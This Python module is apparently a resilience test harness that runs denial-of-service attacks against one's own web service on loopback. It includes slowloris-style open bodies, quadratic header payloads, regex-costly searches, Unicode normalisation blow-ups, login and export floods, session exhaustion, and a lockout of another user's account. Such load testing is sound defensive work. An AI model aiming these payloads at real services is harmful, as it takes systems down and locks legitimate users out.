"""What costs the service far more than its sender. Each runs in a process of its own, until it is told to end.

Only against a service of one's own, on the loopback interface; every loop has a bound.
"""

import http.client
import json
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from itertools import count
from multiprocessing.synchronize import Event
from typing import Any, NamedTuple

PASSWORD = "correct horse battery"
LONGEST = 120  # seconds
SLOW_SEARCH = "b" + "a" * 198  # in texts of the letter a: each place is compared almost to the end
COMBINING = ("\N{ADLAM NUKTA}" * 30 + "a") * 322  # as many as may stand in a row, of the second plane
LIGATURE = "\N{ARABIC LIGATURE SALLALLAHOU ALAYHE WASALLAM}"  # of one character, normalisation makes 18


class Target(NamedTuple):
    port: int
    token: str  # of the attacker's account
    email: str
    victim: str  # the e-mail address of the other account
    begun: Event
    over: Event

    def rounds(self, pause: float = 0.02) -> Iterator[int]:
        """Until the attack is over."""
        until = time.monotonic() + LONGEST
        for number in count():
            yield number
            self.begun.set()
            if self.over.wait(pause) or time.monotonic() > until:
                return


Attack = Callable[[Target], Counter[str]]  # tells how often it saw which answer


def raw(
    target: Target, head: str, *, address: str = "127.0.0.1", buffer: int = 0, seconds: float = 10
) -> socket.socket:
    """A connection that has sent this."""
    client = socket.socket()
    if buffer:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    client.settimeout(seconds)
    client.bind((address, 0))
    client.connect(("127.0.0.1", target.port))
    client.sendall(head.replace("\n", "\r\n").encode())
    return client


def status_of(client: socket.socket) -> str:
    """Of the answer that has come; empty if none has."""
    with suppress(OSError):
        return client.recv(12).partition(b" ")[2].decode()
    return ""


def neighbour(target: Target) -> Counter[str]:
    """No attack: a process that counts for two thirds of the time, and asks for nothing.

    What it does to another user's requests is what the machine does, not the service.
    """
    for _ in target.rounds(0.01):
        until = time.perf_counter() + 0.02
        while time.perf_counter() < until:
            pass
    return Counter()


def headers(target: Target) -> Counter[str]:
    """Parsers that take time by the square of a header's length."""
    costly = ["Content-Type: a;b=" + '"' + ";" * 20_000, "Cookie: a=" + '"' + '\\"' * 10_000]
    seen: Counter[str] = Counter()
    for number in target.rounds():
        with raw(target, f"GET /healthz HTTP/1.1\nHost: localhost\n{costly[number % 2]}\n\n") as client:
            client.settimeout(60)
            seen[status_of(client)] += 1
    return seen


def bodies(target: Target, connections: int = 9500) -> Counter[str]:
    """Requests whose bodies never end."""
    head = "POST /api/auth/login HTTP/1.1\nHost: localhost\nContent-Type: application/json\nContent-Length: 100000\n\n{"
    seen: Counter[str] = Counter()
    with ExitStack() as clients:
        opened = []
        for _ in range(connections):
            with suppress(OSError):
                opened.append(clients.enter_context(raw(target, head, seconds=1)))
                continue
            break  # the service takes in no more, from nobody
        for _ in target.rounds(0.1):
            pass
        for client in opened:
            client.settimeout(0)
            seen[status_of(client) or "held"] += 1
    return seen


def readers(target: Target, connections: int = 2000) -> Counter[str]:
    """Answers of 2 MB that nobody reads, for one account but from many networks."""
    head = f"GET /api/me/tasks?limit=200 HTTP/1.1\nHost: localhost\nAuthorization: Bearer {target.token}\n\n"
    seen: Counter[str] = Counter()
    with ExitStack() as clients:
        opened = []
        for number in range(connections):
            address = f"127.0.1.{1 + number % 32}"
            with suppress(OSError):
                opened.append(clients.enter_context(raw(target, head, address=address, buffer=4096)))
        for _ in target.rounds(0.1):
            pass
        for client in opened:
            client.settimeout(0)
            seen[status_of(client) or "waiting"] += 1
    return seen


class Client:
    """A connection that asks and tells the status; cheap, since the attack shall not take the machine itself."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self._connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=60)

    def ask(self, method: str, path: str, body: bytes | None = None, **headers: str) -> str:
        fields = {"Authorization": f"Bearer {self._target.token}", "Content-Type": "application/json", **headers}
        try:
            self._connection.request(method, path, body, fields)
            answer = self._connection.getresponse()
            answer.read()
        except (OSError, http.client.HTTPException) as error:
            self._connection.close()
            return type(error).__name__
        return str(answer.status)


def _flood(
    target: Target, parallel: int, method: str, path: str, body: Any = None, *, pause: float = 0.01, **headers: str
) -> Counter[str]:
    """So many clients, each of which asks again soon after it is answered."""
    content = None if body is None else json.dumps(body, ensure_ascii=False).encode()

    def one(_: int) -> Counter[str]:
        client = Client(target)
        return Counter(client.ask(method, path, content, **headers) for _ in target.rounds(pause))

    with ThreadPoolExecutor(parallel) as pool:
        return sum(pool.map(one, range(parallel)), Counter[str]())


def searches(target: Target) -> Counter[str]:
    return _flood(target, 8, "GET", f"/api/me/tasks?search={SLOW_SEARCH}")


def exports(target: Target) -> Counter[str]:
    return _flood(target, 18, "GET", "/api/users/me/export")


def sign_ins(target: Target) -> Counter[str]:
    wrong = {"email": target.email, "password": "not the password"}
    return _flood(target, 40, "POST", "/api/auth/login", wrong)


def refusals(target: Target) -> Counter[str]:
    """Each is answered by the thread that refuses."""
    return _flood(target, 60, "GET", "/healthz", pause=1.0, Accept="a" * 3000)


def registrations(target: Target) -> Counter[str]:
    """An address that normalisation makes 18 times as long."""
    account = {"email": f"{LIGATURE * 170_000}@example.com", "password": PASSWORD}
    return _flood(target, 2, "POST", "/api/auth/register", account)


def marks(target: Target) -> Counter[str]:
    """Combining marks that are to be sorted, in each write."""
    return _flood(target, 2, "POST", "/api/me/tasks", {"title": "a", "description": COMBINING})


def lockout(target: Target) -> Counter[str]:
    """Wrong passwords for somebody else's account."""
    wrong = {"email": target.victim, "password": "not the password"}
    return _flood(target, 2, "POST", "/api/auth/login", wrong)


def sessions(target: Target) -> Counter[str]:
    """As many sessions as can be had."""
    account = {"email": target.email, "password": PASSWORD}
    return _flood(target, 4, "POST", "/api/auth/login", account)
